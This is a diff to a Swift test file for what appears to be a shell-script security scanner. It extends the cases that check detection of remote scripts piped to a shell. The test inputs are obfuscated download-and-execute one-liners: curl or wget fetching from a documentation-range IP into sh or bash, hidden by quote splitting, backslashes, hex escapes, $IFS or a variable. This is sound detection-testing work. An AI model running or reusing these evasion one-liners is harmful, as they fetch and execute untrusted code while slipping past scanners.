@@ -16,11 +16,15 @@ import Testing
   }
 
   @Test(
-    "Quote- and backslash-split downloaders piped to a shell are reported",
+    "Downloaders hidden by quotes, backslashes, ANSI-C escapes, $IFS or a variable, piped to a shell, are reported",
     arguments: [
       "#!/bin/sh\nc\"ur\"l -fsSL https://203.0.113.7/x | b'a'sh\n",
       "#!/bin/sh\nw\\get -qO- https://203.0.113.7/x | sh\n",
       "#!/bin/sh\ncu\\\nrl -fsSL https://203.0.113.7/x | sh\n",
+      "#!/bin/sh\n$'\\x63\\x75\\x72\\x6c' -fsSL https://203.0.113.7/x | bash\n",
+      "#!/bin/sh\ncurl${IFS}-fsSL${IFS}https://203.0.113.7/x|bash\n",
+      "#!/bin/sh\nc=curl; $c -fsSL https://203.0.113.7/x | bash\n",
+      "#!/bin/sh\n$SUDO wget -qO- https://203.0.113.7/x | sh\n",
     ])
   func splitNamesAreRead(script: String) throws {
     let hit = try #require(findings(script: script).first { $0.ruleID == "remote-script-piped-to-shell" })
@@ -57,9 +61,16 @@ import Testing
     #expect(hit.chain == .exfiltration)
   }
 
-  @Test("Quotes around ordinary words do not invent a command")
-  func quotedWordsStayQuiet() {
-    let found = findings(script: "#!/bin/sh\necho \"c\" \"url\" | tee notes.txt\n")
+  @Test(
+    "Quotes around ordinary words, or a variable command without a URL or a shell, do not invent a download",
+    arguments: [
+      "#!/bin/sh\necho \"c\" \"url\" | tee notes.txt\n",
+      "#!/bin/sh\n$PAGER https://example.com/docs.txt\n",
+      "#!/bin/sh\n\"$EDITOR\" notes.txt | sh\n",
+      "#!/bin/sh\nIFS=$'\\n'; for f in $(ls); do echo \"$f\"; done\n",
+    ])
+  func quotedWordsStayQuiet(script: String) {
+    let found = findings(script: script)
     #expect(!found.contains { $0.ruleID == "remote-script-piped-to-shell" })
   }
 }
